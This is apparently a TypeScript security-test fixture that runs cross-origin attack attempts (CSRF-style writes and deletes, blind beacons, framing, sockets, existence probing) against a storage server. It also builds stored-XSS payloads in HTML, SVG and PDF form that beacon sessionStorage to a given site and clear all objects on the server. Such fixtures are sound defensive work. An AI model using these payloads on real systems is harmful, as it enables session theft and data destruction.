/**
 * The attempts of a page of another origin: gives one sentence for each that succeeded. Runs in a browser, with the
 * address of a server and a token, or "".
 */
export const ATTEMPTS = `(async ({ server, token }) => {
  const done = [];
  const own = token === "" ? {} : { authorization: "Bearer " + token };
  const READ = ["/v1/objects/victim", "/v1/objects", "/status", "/config", "/metrics", "/v1/access", "/s3/default/victim", "/"];
  const SIMPLE = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"];
  const POSTS = ["/v1/objects/victim", "/v1/batch/delete", "/v1/batch/put", "/s3/default/victim", "/s3/default?delete"];
  const tries = {
    async read(path, init) {
      const response = await fetch(server + path, { headers: own, ...init });
      await response.text();
      done.push("read " + path + " " + response.status);
    },
    async readBlind(path) {
      const response = await fetch(server + path, { mode: "no-cors", credentials: "include" });
      if (response.type !== "opaque" || await response.text() !== "") done.push("saw " + path + " as " + response.type);
    },
    xhr: (method, path) => new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.open(method, server + path);
      request.onload = () => { done.push("XHR " + method + " " + path + " " + request.status); resolve(); };
      request.onerror = resolve;
      request.send(method === "PUT" ? "evil" : undefined);
    }),
    async send(method, path, headers) {
      const body = method === "DELETE" ? undefined : "evil";
      const response = await fetch(server + path, { method, body, headers: { ...own, ...headers } });
      done.push(method + " " + path + " " + response.status);
    },
    sendBlind: (path, type, method = "POST") => fetch(server + path, {
      method, mode: "no-cors", body: "evil", keepalive: true, credentials: "include",
      headers: { "content-type": type, "x-http-method-override": "DELETE" },
    }),
    async beacon(path, type) { navigator.sendBeacon(server + path, new Blob(["evil"], { type })); },
    element: (name, path, more = {}) => new Promise((resolve) => {
      const element = document.createElement(name);
      // What is framed and not shown loads, too, but as an error page of the browser's.
      const framed = ["iframe", "embed"].includes(name);
      element.onload = element.oncanplay = () => { if (!framed) done.push(name + " of " + path); resolve(); };
      element.onerror = resolve;
      setTimeout(resolve, 2000);
      Object.assign(element, more);
      element[name === "link" ? "href" : name === "object" ? "data" : "src"] = server + path;
      document.body.append(element);
    }),
    framed: (path) => new Promise((resolve) => {
      const frame = document.createElement("iframe");
      const look = () => {
        try { if (frame.contentDocument.body.innerHTML !== "") done.push("read the frame of " + path); } catch {}
        resolve();
      };
      frame.onload = look;
      setTimeout(look, 2000);
      frame.src = server + path;
      document.body.append(frame);
    }),
    async opened(path) {
      const tab = window.open(server + path);
      await new Promise((resolve) => setTimeout(resolve, 1500));
      // A tab that shows nothing yet, or whose address is saved, belongs to this page.
      try { if (tab.location.href !== "about:blank") done.push("read the tab of " + path); } catch {}
      try { tab.postMessage({ token: "give" }, "*"); } catch {}
      tab?.close();
    },
    events: () => new Promise((resolve) => {
      const source = new EventSource(server + "/v1/events", { withCredentials: true });
      source.onopen = () => { done.push("events"); source.close(); resolve(); };
      source.onerror = () => { source.close(); resolve(); };
    }),
    socket: (path) => new Promise((resolve) => {
      const socket = new WebSocket(server.replace("http", "ws") + path);
      socket.onopen = () => { done.push("socket of " + path); socket.close(); resolve(); };
      socket.onerror = socket.onclose = resolve;
    }),
    form: (action, enctype, method = "post") => new Promise((resolve) => {
      const name = "f" + Math.random();
      document.body.insertAdjacentHTML("beforeend", "<iframe name=" + name + "></iframe><form><input name=a value=b></form>");
      const form = document.forms[document.forms.length - 1];
      Object.assign(form, { action: server + action, enctype, method, target: name });
      document.querySelector("iframe[name='" + name + "']").onload = resolve;
      setTimeout(resolve, 2000);
      form.submit();
    }),
    async worker(path) { new Worker(server + path); done.push("worker of " + path); },
    async serviceWorker(path) { await navigator.serviceWorker.register(server + path); done.push("service worker"); },
    async module(path) { await import(server + path); done.push("module of " + path); },
    async existence() {
      const kinds = [];
      for (const path of ["/v1/objects/victim", "/v1/objects/absent"]) {
        const kind = await fetch(server + path, { mode: "no-cors" }).then((response) => response.type, () => "error");
        const status = performance.getEntriesByName(server + path).at(-1)?.responseStatus ?? 0;
        kinds.push(kind + " " + status);
      }
      if (kinds[0] !== kinds[1]) done.push("told what exists: " + kinds.join(", "));
    },
  };
  await Promise.allSettled([
    ...READ.flatMap((path) => [tries.read(path), tries.read(path, { credentials: "include" }), tries.readBlind(path)]),
    ...["GET", "HEAD", "PUT", "DELETE"].map((method) => tries.xhr(method, "/v1/objects/victim")),
    ...["DELETE", "PUT", "POST", "PATCH"].map((method) => tries.send(method, "/v1/objects/victim")),
    tries.send("DELETE", "/v1/objects?clear=all"), tries.send("DELETE", "/s3/default/victim"), tries.send("PUT", "/s3/default/victim"),
    tries.send("PUT", "/v1/objects/victim", { "content-type": "text/plain", "x-any": "1" }),
    ...POSTS.flatMap((path) => SIMPLE.flatMap((type) => [tries.send("POST", path, { "content-type": type }), tries.sendBlind(path, type), tries.beacon(path, type)])),
    ...["PUT", "DELETE"].map((method) => tries.sendBlind("/v1/objects/victim", "text/plain", method)),
    tries.element("img", "/v1/objects/image"), tries.element("script", "/v1/objects/program"), tries.element("script", "/v1/objects/program", { type: "module" }),
    tries.element("link", "/v1/objects/style", { rel: "stylesheet" }), tries.element("link", "/v1/objects/image", { rel: "icon" }),
    tries.element("link", "/v1/objects/program", { rel: "preload", as: "script" }), tries.element("link", "/v1/objects/program", { rel: "modulepreload" }),
    tries.element("video", "/v1/objects/image"), tries.element("audio", "/v1/objects/image"), tries.element("object", "/v1/objects/page"),
    tries.element("iframe", "/v1/objects/page"), tries.element("embed", "/v1/objects/page"), tries.element("iframe", "/v1/objects/pdf"),
    tries.framed("/"), tries.framed("/v1/objects/page"), tries.framed("/v1/objects/victim"), tries.opened("/"), tries.opened("/v1/objects/page"),
    tries.events(), tries.socket("/v1/events"), tries.socket("/v1/objects/victim"),
    ...["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"].flatMap((type) => POSTS.map((path) => tries.form(path, type))),
    tries.form("/v1/objects", "", "get"), tries.worker("/v1/objects/program"), tries.serviceWorker("/v1/objects/program"),
    tries.module("/v1/objects/program"), tries.existence(),
  ]);
  if (window.ranStored) done.push("ran a stored program");
  return [...new Set(done)].sort();
})`;

/** A program that tells `site` when it runs, takes what the dashboard keeps, and clears the server. */
export function storedProgram(site: string): string {
  return `window.ranStored = true;
let kept = "";
try { kept = JSON.stringify([sessionStorage, opener?.sessionStorage, top.sessionStorage, parent.document.title]); } catch {}
navigator.sendBeacon("${site}/ran", location.href + kept);
fetch("/v1/objects?clear=all", { method: "DELETE" });`;
}

/** The same in a page. */
export function storedPage(site: string): string {
  return `<!doctype html><title>quiet</title><script>${storedProgram(site)}</script>
<img src=x onerror="navigator.sendBeacon('${site}/ran')"><meta http-equiv=refresh content="0;url=javascript:navigator.sendBeacon('${site}/ran')">`;
}

/** The same in a picture. */
export function storedPicture(site: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><title>quiet</title><rect width="9" height="9"/>
<script><![CDATA[${storedProgram(site)}]]></script></svg>`;
}

/** The same in a document of a PDF. */
export function storedPdf(site: string): string {
  return `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${site}/ran");)>>>>endobj
2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj
trailer<</Root 1 0 R>>`;
}

/** A picture of one pixel. */
export const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
